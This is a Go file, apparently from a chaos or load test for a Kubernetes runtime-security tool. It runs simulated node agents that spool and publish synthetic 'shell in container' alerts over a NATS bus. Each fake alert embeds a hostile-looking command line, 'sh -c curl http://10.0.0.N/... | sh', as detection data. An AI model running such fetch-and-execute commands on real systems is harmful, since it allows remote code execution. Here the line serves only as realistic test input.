package main

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"maps"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"github.com/nats-io/nats.go"

	"github.com/kubeguardian/kubeguardian/alert"
	"github.com/kubeguardian/kubeguardian/bus"
	"github.com/kubeguardian/kubeguardian/bus/spool"
	"github.com/kubeguardian/kubeguardian/event"
	"github.com/kubeguardian/kubeguardian/finding"
)

// spoolBytes is enough for all that is raised while the bus is away.
const spoolBytes = 1 << 30

// pods is on how many of each node alerts are about.
const pods = 50

// An agent is the part of one that puts alerts into a spool and sends them.
type agent struct {
	node   string
	spool  *spool.Spool
	conn   *nats.Conn
	sender *bus.Publisher
	raised map[string]string // group of each alert, by its id in the server
}

// agents send until finish is called.
type agents struct {
	list    []*agent
	cancel  context.CancelFunc
	sending sync.WaitGroup
	raising sync.WaitGroup
	enough  chan struct{} // closed when no more are to be raised

	mu   sync.Mutex
	took time.Duration
	errs []error
}

// startAgents connects agents to the bus of a server or to one of its own. Each
// has a token.
func startAgents(ctx context.Context, s settings, url string) (*agents, error) {
	log := slog.New(slog.DiscardHandler)
	ctx, cancel := context.WithCancel(ctx)
	all := &agents{cancel: cancel, enough: make(chan struct{})}
	for i := range s.agents {
		a := &agent{node: nodeName(i), raised: map[string]string{}}
		token := filepath.Join(s.dir, "token-"+a.node)
		err := os.WriteFile(token, []byte(tokenOf(a.node)), 0o600)
		if err != nil {
			return nil, errors.Join(err, all.close())
		}
		if a.spool, err = spool.Open(filepath.Join(s.dir, "spool-"+a.node), spoolBytes); err != nil {
			return nil, errors.Join(err, all.close())
		}
		all.list = append(all.list, a)
		if a.conn, err = (bus.Endpoint{URL: url, TokenFile: token}).ConnectAgent(a.node, log); err != nil {
			return nil, errors.Join(err, all.close())
		}
		a.sender = bus.NewPublisher(a.node, a.spool, log)
		all.sending.Go(func() { all.note(a.sender.Run(ctx, a.conn)) })
	}
	return all, nil
}

func nodeName(i int) string { return fmt.Sprint("node-", i) }

// tokenOf returns what the agent of a node shows, where the bus asks for it.
func tokenOf(node string) string { return "token-of-" + node + "-in-chaos" }

func (all *agents) note(err error) {
	if err != nil {
		all.mu.Lock()
		defer all.mu.Unlock()
		all.errs = append(all.errs, err)
	}
}

// raise has all agents raise alerts at a steady rate until finish is called. What
// is late is raised at once.
func (all *agents) raise(s settings) {
	each := s.rate / len(all.list)
	began := time.Now()
	for _, a := range all.list {
		all.raising.Go(func() {
			for i := 0; all.awaits(began.Add(time.Duration(i) * time.Second / time.Duration(each))); i++ {
				if err := a.raise(i, fmt.Sprint("case-", i%s.groups), s.priority()); err != nil {
					all.note(err)
					return
				}
			}
			all.mu.Lock()
			defer all.mu.Unlock()
			all.took = max(all.took, time.Since(began))
		})
	}
}

// awaits waits until it is about a time, and reports whether more is to be raised.
func (all *agents) awaits(at time.Time) bool {
	if ahead := time.Until(at); ahead > 5*time.Millisecond {
		time.Sleep(ahead)
	}
	select {
	case <-all.enough:
		return false
	default:
		return true
	}
}

// raise puts one alert into the spool.
func (a *agent) raise(i int, group string, p alert.Priority) error {
	one := newAlert(a.node, i, group, p)
	a.raised[bus.ID(a.node, one)] = group
	return a.sender.Publish(&one)
}

// newAlert returns the nth alert of a node, as large as those of rules commonly are.
func newAlert(node string, i int, group string, p alert.Priority) alert.Alert {
	command := fmt.Sprintf("sh -c curl http://10.0.0.%d/%d | sh", i%250, i)
	pod, container := fmt.Sprintf("web-%s-%d", node, i%pods), fmt.Sprintf("3f2a9c%s%d", node, i%pods)
	return alert.Alert{
		ID: alert.NewID(event.Syscall, fmt.Sprint(node, i), "Shell"), Time: time.Now(), Rule: "Shell", Priority: p, Source: event.Syscall, Hostname: node,
		Output: "12:00:00.000000000: Warning A shell was started in a container (parent=runc container=" + container + " image=registry.example.org/shop/web namespace=shop pod=" + pod + " command=" + command + ")",
		OutputFields: map[string]any{
			"proc.cmdline": command, "proc.exepath": "/usr/bin/sh", "evt.time": time.Now().UnixNano(), "container.id": container, "k8s.pod.name": pod, "k8s.ns.name": "shop",
			"container.image.repository": "registry.example.org/shop/web", "user.name": "root", "proc.pname": "runc", "case": group,
		},
		Tags: []string{"container", "mitre_execution", "T1059"}, Tactics: []string{"execution"},
		Subject:  finding.Subject{APIVersion: "v1", Kind: "Pod", Namespace: "shop", Name: pod, Container: "app"},
		Entities: []alert.Entity{{Kind: alert.Pod, Name: "shop/" + pod}, {Kind: alert.Container, Name: container}},
	}
}

// sent returns how many alerts the bus has, and how many wait in spools.
func (all *agents) sent() (sent, waiting uint64) {
	for _, a := range all.list {
		stats := a.sender.Stats()
		sent += stats.Sent
		waiting += stats.Spool.Waiting
	}
	return sent, waiting
}

// finish ends the raising, waits until the bus has all, and returns the groups of
// alerts by their ids, and how long it took to raise them.
func (all *agents) finish(ctx context.Context) (raised map[string]string, took time.Duration, err error) {
	close(all.enough)
	all.raising.Wait()
	err = progress(ctx, "the bus takes no more alerts", func() (done bool, mark uint64, err error) {
		sent, waiting := all.sent()
		return waiting == 0, sent, nil
	})
	var failed []string
	for _, a := range all.list {
		stats := a.sender.Stats()
		if n := stats.Refused + stats.Spool.Dropped + stats.Spool.Refused; n > 0 {
			failed = append(failed, fmt.Sprintf("%s could not keep %d alerts", a.node, n))
		}
	}
	if len(failed) > 0 {
		err = errors.Join(err, errors.New(strings.Join(failed, "; ")))
	}
	raised = map[string]string{}
	for _, a := range all.list {
		maps.Copy(raised, a.raised)
	}
	return raised, all.took, errors.Join(err, all.close())
}

func (all *agents) close() error {
	all.cancel()
	all.sending.Wait()
	for _, a := range all.list {
		if a.conn != nil {
			a.conn.Close()
		}
		all.note(a.spool.Close())
	}
	return errors.Join(all.errs...)
}

// still is how long nothing may move before that is a failure.
const still = time.Minute

// progress waits until something is done, for as long as its mark moves.
func progress(ctx context.Context, what string, look func() (done bool, mark uint64, err error)) error {
	var last uint64
	for since := time.Now(); ; {
		done, mark, err := look()
		switch {
		case done:
			return nil
		case mark != last:
			last, since = mark, time.Now()
		case time.Since(since) > still:
			return errors.Join(fmt.Errorf("%s, after %d", what, mark), err)
		}
		if err := wait(ctx, 50*time.Millisecond); err != nil {
			return err
		}
	}
}

// wait returns the error of ctx when that ends before the time.
func wait(ctx context.Context, d time.Duration) error {
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-time.After(d):
		return nil
	}
}
